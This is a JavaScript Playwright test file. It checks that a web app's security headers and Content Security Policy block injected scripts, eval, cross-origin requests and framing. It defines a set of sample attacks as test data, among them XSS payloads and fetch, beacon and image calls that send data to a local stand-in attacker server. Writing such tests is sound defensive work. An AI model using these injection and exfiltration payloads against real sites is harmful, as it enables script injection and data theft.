// What the page's policy forbids is refused, what the page does is not, and nobody but its own server is asked for
// anything. All of it with the headers of web/_headers, and as on a host that sends none.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { launch, open, serve } from "./browser.mjs";
import { PATIENCE, click, downloaded, trained, until, widget } from "./visitor.mjs";

// Then playwright tells also what a service worker asks for.
process.env.PW_EXPERIMENTAL_SERVICE_WORKER_NETWORK_EVENTS = "1";

/** A server of somebody else who takes whatever comes, and the list of it. */
async function listen() {
  const heard = [];
  const server = createServer((request, response) => {
    heard.push(request.url);
    response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("document.title = 'taken over'");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const close = () => {
    server.close();
    server.closeAllConnections();
  };
  return { heard, address: `http://127.0.0.1:${server.address().port}/`, close };
}

let browser, elsewhere;
const sites = {};
before(async () => {
  elsewhere = await listen();
  sites["with headers"] = await serve();
  sites["without headers"] = await serve(undefined, { bare: true });
  browser = await launch();
});
after(async () => {
  await browser?.close();
  elsewhere?.close();
  for (const site of Object.values(sites)) site.close();
});

/**
 * Opens the page and keeps what violates its policy, and all that is asked for, from the first moment on. `change` alters
 * the page on its way.
 */
async function visit(site, { change, ...options } = {}) {
  const asked = [];
  const before = async (page) => {
    page.context().on("request", (request) => asked.push(request.url()));
    await page.addInitScript(() => {
      window.violations = [];
      document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.effectiveDirective));
    });
    if (!change) return;
    await page.route(site.address, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: change(await response.text()) });
    });
  };
  return { asked, ...(await open(browser, site.address, { before, ...options })) };
}

const violations = (page) => page.evaluate(() => [...new Set(window.violations)].sort());

for (const how of ["with headers", "without headers"]) {
  test(`${how}, a visit to every tab violates nothing and asks nobody else`, async () => {
    const site = sites[how];
    const { asked, page, problems, close } = await visit(site, { offline: true });
    await trained(page);
    await page.waitForFunction(() => navigator.serviceWorker.controller?.state === "activated", null, PATIENCE);
    const labels = page.getByRole("radio", { name: /^Tab: / });
    const tabs = await labels.evaluateAll((all) => all.map((tab) => tab.getAttribute("aria-label")));
    assert.equal(tabs.length, 7, String(tabs));
    for (const tab of tabs) {
      await click(page, "radio", tab);
      await until(() => widget(page, "radio", tab).getAttribute("aria-checked"), (checked) => checked === "true");
    }
    // Workers beside the page, a file, and a figure that becomes a picture.
    await click(page, "radio", "Tab: Attack bench");
    await click(page, "button", "Attack the ensemble shown");
    await page.getByRole("status").filter({ hasText: /^done in/ }).waitFor({ timeout: 120_000 });
    assert.match((await downloaded(page, () => click(page, "button", "CSV"))).text, /^attacker/);
    await click(page, "radio", "Tab: Train");
    await click(page, "button", "Export and open");
    await widget(page, "button", "Figure as PNG").waitFor(PATIENCE);
    const png = await downloaded(page, () => click(page, "button", "Figure as PNG"));
    assert.equal(png.bytes.subarray(1, 4).toString(), "PNG");
    assert.deepEqual(await violations(page), []);
    assert.deepEqual(problems, []);

    const others = asked.filter((url) => !url.startsWith(site.address) && !url.startsWith(`blob:${site.address}`));
    assert.deepEqual(others, []);
    // The worker's and the service worker's requests are among them.
    for (const file of ["start.js", "worker.js", "worker_bg.wasm", "icons/icon-512.png"]) {
      assert.ok(asked.includes(site.address + file), `${file} is not among ${asked.join(" ")}`);
    }
    await close();
  });

  test(`${how}, what an attacker would do in the page is refused`, async () => {
    elsewhere.heard.length = 0;
    const { page, close } = await visit(sites[how], { offline: true });
    await trained(page);
    const outcomes = await page.evaluate(async (elsewhere) => {
      const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
      const attacks = {
        eval: () => eval("document.title = 'taken over'"),
        "a function of text": () => new Function("document.title = 'taken over'")(),
        "a timer of text": () => setTimeout("document.title = 'taken over'"),
        "HTML of text": () => add("div", { innerHTML: "<img src=x onerror=\"document.title = 'taken over'\">" }),
        "an inline script": () => add("script", { text: "document.title = 'taken over'" }),
        "a script from elsewhere": () => add("script", { src: elsewhere }),
        "a module from elsewhere": () => import(elsewhere),
        "a worker of text": () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))),
        "another worker": () => new Worker("./worker.js"),
        "another service worker": () => navigator.serviceWorker.register("./start.js"),
        "another trusted type": () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }),
        "a request elsewhere": () => fetch(elsewhere, { method: "POST", mode: "no-cors", body: "all that is known" }),
        "a beacon": () => void navigator.sendBeacon(elsewhere, "all that is known"),
        "a socket": () => void new WebSocket(elsewhere.replace("http", "ws")),
        "an image from elsewhere": () => add("img", { src: elsewhere + "?all+that+is+known" }),
        "a frame": () => add("iframe", { src: elsewhere }),
        "a style sheet": () => add("style", { textContent: "body { background: red }" }),
        "another base": () => add("base", { href: elsewhere }),
        "a form": () => {
          add("form", { action: elsewhere, id: "form" });
          document.getElementById("form").submit();
        },
      };
      // Each in a task of its own: what a debugger evaluates may itself evaluate.
      const attempt = (act) =>
        new Promise((resolve) => {
          setTimeout(async () => {
            try {
              await act();
              resolve("silence");
            } catch (error) {
              resolve(error.name);
            }
          });
        });
      const outcomes = {};
      for (const [name, act] of Object.entries(attacks)) outcomes[name] = await attempt(act);
      return outcomes;
    }, elsewhere.address);
    assert.deepEqual(outcomes, {
      eval: "EvalError",
      "a function of text": "EvalError",
      "a timer of text": "TypeError",
      "HTML of text": "TypeError",
      "an inline script": "TypeError",
      "a script from elsewhere": "TypeError",
      "a module from elsewhere": "TypeError",
      "a worker of text": "TypeError",
      "another worker": "TypeError",
      "another service worker": "TypeError",
      "another trusted type": "TypeError",
      "a request elsewhere": "TypeError",
      "a beacon": "silence",
      "a socket": "silence",
      "an image from elsewhere": "silence",
      "a frame": "silence",
      "a style sheet": "silence",
      "another base": "silence",
      "a form": "silence",
    });
    const directives = [
      "base-uri", "connect-src", "form-action", "frame-src", "img-src", "require-trusted-types-for", "script-src-elem",
      "style-src-elem", "trusted-types",
    ];
    assert.deepEqual(await until(() => violations(page), (all) => all.length >= directives.length), directives);
    assert.notEqual(await page.title(), "taken over");
    assert.equal(await page.evaluate(() => document.baseURI), page.url());
    assert.deepEqual(elsewhere.heard, []);
    await close();
  });

  test(`${how}, a script that has come into the page's HTML does not run`, async () => {
    const change = (html) =>
      html.replace("</body>", "<script>document.title = 'taken over'</script><img src=x onerror=\"document.title = 'taken over'\"></body>");
    const { page, close } = await visit(sites[how], { change });
    await trained(page);
    assert.deepEqual(await violations(page), ["script-src-attr", "script-src-elem"]);
    assert.notEqual(await page.title(), "taken over");
    await close();
  });

  // A worker's policy comes with its own file. Where there is none, this also shows that the requests above are real.
  test(`${how}, ${how === "with headers" ? "not even a worker" : "only a worker"} could ask others`, async () => {
    elsewhere.heard.length = 0;
    const { page, close } = await visit(sites[how]);
    await trained(page);
    const outcomes = await page.workers()[0].evaluate(async (elsewhere) => {
      const attacks = [() => fetch(elsewhere), () => importScripts(elsewhere), () => eval("1")];
      const attempt = (act) =>
        new Promise((resolve) => {
          setTimeout(() => Promise.resolve().then(act).then(() => resolve("done"), (error) => resolve(error.name)));
        });
      return Promise.all(attacks.map(attempt));
    }, elsewhere.address);
    if (how === "with headers") {
      assert.deepEqual(outcomes, ["TypeError", "TypeError", "EvalError"]);
      assert.deepEqual(elsewhere.heard, []);
    } else {
      assert.equal(outcomes[0], "done");
      assert.ok(elsewhere.heard.length > 0);
    }
    await close();
  });
}

test("nobody may frame the page where headers say so", async () => {
  const { page, close } = await open(browser, elsewhere.address);
  for (const [how, framed] of [["with headers", false], ["without headers", true]]) {
    await page.evaluate((address) => {
      const frame = Object.assign(document.createElement("iframe"), { src: address });
      const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
      document.body.replaceChildren(frame);
      return loaded;
    }, sites[how].address);
    const title = await page.frames()[1].title();
    assert.equal(title.startsWith("ape-lab"), framed, `${how}: ${title}`);
  }
  await close();
});
